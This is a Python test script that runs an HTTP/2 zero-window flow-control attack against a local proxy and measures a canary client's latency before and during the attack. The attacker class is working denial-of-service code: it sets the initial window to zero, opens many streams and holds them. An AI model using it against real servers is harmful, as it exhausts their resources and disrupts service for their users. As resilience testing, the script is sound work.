"""The zero-window attack on one HTTP/2 app connection, with a canary beside it (stdlib only).

    zero_window.py PROXY_PORT AUTHORITY PATH --tls CA_FILE | --h2c  [--streams 100]
                   [--seconds 10] [--canary-host HOST] [--canary-path /canary]

The ATTACKER opens one app connection to the proxy — `--tls`: CONNECT AUTHORITY, then TLS (ALPN
h2, trusting CA_FILE: the proxy's interception CA) and HTTP/2 in it; `--h2c`: HTTP/2 with prior
knowledge on the listener — sets SETTINGS_INITIAL_WINDOW_SIZE to 0, opens --streams GETs for PATH
(a large response each) and never opens a window, reading only what the proxy sends beside DATA.

The attacker runs in a process of its own (so that nothing it does holds up the canary's
interpreter). The CANARY, on a connection of its own, sends `GET http://CANARY_HOST/CANARY_PATH`
through the proxy (HTTP/1.1, keep-alive) every 10 ms, first for --seconds before the attack (the
baseline), then for --seconds while it holds. Each latency counts from when its request was due,
not from when it could be sent: a stall of 300 ms is 30 slow samples, not one (no coordinated
omission). Prints one JSON line: each phase's count, p50, p99, max (ms) and failures, and what the
attacker's streams got (HEADERS, resets, DATA bytes, a GOAWAY's code).
"""
import argparse, json, socket, ssl, struct, subprocess, sys, threading, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def attack_socket(a):
    sock = socket.create_connection(("127.0.0.1", a.port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if a.h2c:
        return sock, "http"
    sock.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.authority.encode(), a.authority.encode()))
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            raise SystemExit("CONNECT: the proxy closed")
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        raise SystemExit("CONNECT: %r" % head[:80])
    context = ssl.create_default_context(cafile=a.tls)
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(sock, server_hostname=a.authority.rsplit(":", 1)[0])
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("TLS: ALPN chose %r" % tls.selected_alpn_protocol())
    return tls, "https"


class Attacker(threading.Thread):
    """Holds the connection: answers SETTINGS, counts what comes, never opens a window."""

    def __init__(self, a):
        super().__init__(daemon=True)
        self.a = a
        self.heads = self.resets = self.data = 0
        self.goaway = None
        self.ready = threading.Event()
        self.stop = False

    def run(self):
        sock, scheme = attack_socket(self.a)
        sock.settimeout(0.2)
        authority = self.a.authority.encode()
        # INITIAL_WINDOW_SIZE (4) = 0
        sock.sendall(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)))
        block = (literal(b":method", b"GET") + literal(b":scheme", scheme.encode())
                 + literal(b":authority", authority) + literal(b":path", self.a.path.encode()))
        sock.sendall(b"".join(frame(1, 0x5, 2 * i + 1, block) for i in range(self.a.streams)))
        self.ready.set()
        buffer = b""
        while not self.stop:
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except OSError:
                break
            if not chunk:
                break
            buffer += chunk
            while len(buffer) >= 9:
                length = struct.unpack(">I", b"\0" + buffer[:3])[0]
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                payload = buffer[9:9 + length]
                buffer = buffer[9 + length:]
                if kind == 4 and not flags & 1:
                    sock.sendall(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    sock.sendall(frame(6, 1, 0, payload))
                elif kind == 1:
                    self.heads += 1
                elif kind == 3:
                    self.resets += 1
                elif kind == 0:
                    self.data += len(payload)
                elif kind == 7:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
        sock.close()


def canary(a, seconds):
    """GETs through the proxy every 10 ms for `seconds`: latencies (ms) and failures."""
    latencies, failures = [], 0
    request = b"GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.canary_host.encode(), a.canary_path.encode(),
                                                                a.canary_host.encode())
    sock = None
    due = time.monotonic()
    end = due + seconds
    while due < end:
        # Due every 10 ms: a request sent late (after a slow one) counts from when it was due.
        started = due
        due += 0.01
        try:
            if sock is None:
                sock = socket.create_connection(("127.0.0.1", a.port), timeout=2)
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.sendall(request)
            response = b""
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    raise OSError("closed")
                response += chunk
                head, sep, body = response.partition(b"\r\n\r\n")
                if sep:
                    length = 0
                    for line in head.split(b"\r\n")[1:]:
                        name, _, value = line.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value)
                    if len(body) >= length:
                        break
            if not response.startswith(b"HTTP/1.1 200"):
                raise OSError("status %r" % response[:12])
            latencies.append((time.monotonic() - started) * 1000)
        except OSError:
            failures += 1
            if sock is not None:
                sock.close()
            sock = None
        time.sleep(max(0.0, due - time.monotonic()))
    if sock is not None:
        sock.close()
    latencies.sort()

    def rank(p):
        return round(latencies[min(len(latencies) - 1, int(p * len(latencies)))], 2) if latencies else None

    return {"count": len(latencies), "p50_ms": rank(0.5), "p99_ms": rank(0.99),
            "max_ms": round(latencies[-1], 2) if latencies else None, "failures": failures}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("authority")
    p.add_argument("path")
    way = p.add_mutually_exclusive_group(required=True)
    way.add_argument("--tls", metavar="CA_FILE")
    way.add_argument("--h2c", action="store_true")
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--canary-host", default="canary.test")
    p.add_argument("--canary-path", default="/canary")
    p.add_argument("--attacker", action="store_true", help="(internal) be the attacker process")
    a = p.parse_args()
    if a.attacker:
        # Says "ready" once its streams are sent, then holds until its standard input closes.
        attacker = Attacker(a)
        attacker.start()
        attacker.ready.wait(10)
        print("ready", flush=True)
        sys.stdin.read()
        attacker.stop = True
        attacker.join(2)
        print(json.dumps({"heads": attacker.heads, "resets": attacker.resets, "data": attacker.data,
                          "goaway": attacker.goaway}), flush=True)
        return
    baseline = canary(a, a.seconds)
    process = subprocess.Popen([sys.executable, __file__, "--attacker"] + sys.argv[1:], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, text=True)
    if process.stdout.readline().strip() != "ready":
        raise SystemExit("the attacker did not start")
    attack = canary(a, a.seconds)
    out, _ = process.communicate("", timeout=10)
    print(json.dumps({"way": "tls" if a.tls else "h2c", "streams": a.streams, "baseline": baseline, "attack": attack,
                      "attacker": json.loads(out)}))


if __name__ == "__main__":
    main()
